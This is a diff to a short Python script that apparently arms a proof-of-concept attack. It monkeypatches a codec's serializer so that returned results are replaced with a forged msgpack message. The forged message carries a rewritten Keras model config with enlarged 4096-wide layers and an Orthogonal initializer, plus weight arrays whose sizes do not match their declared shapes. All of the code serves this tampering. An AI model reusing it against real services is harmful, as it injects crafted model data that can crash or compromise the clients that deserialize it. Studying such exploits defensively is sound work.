@@ -14,17 +14,19 @@ SEND = codec.to_bytes
 
 
 def forged(answer):
-    config = json.loads(answer[2][3])
+    parts = codec.msgspec.msgpack.decode(SEND(answer))
+    model = parts[1][1]
+    config = json.loads(model[3])
     config["layers"][0]["config"]["batch_shape"] = [None, 4096]
     config["layers"][1]["config"]["units"] = 4096
     config["layers"][1]["config"]["kernel_initializer"]["class_name"] = "Orthogonal"
-    answer[2][3] = json.dumps(config)
-    answer[2][4] = [["array", "float32", [1, 4096], bytes(16384)], ["array", "float32", [4096], bytes(16384)]]
-    return SEND(answer)
+    model[3] = json.dumps(config)
+    model[4] = [["array", "float32", [1, 4096], bytes(16384)], ["array", "float32", [4096], bytes(16384)]]
+    return codec.msgspec.msgpack.encode(parts)
 
 
 def send(answer):
-    return forged(answer) if answer[1] == "returned" else SEND(answer)
+    return forged(answer) if type(answer.answer).__name__ == "Returned" else SEND(answer)
 
 
 ARMED = setattr(codec, "to_bytes", send)
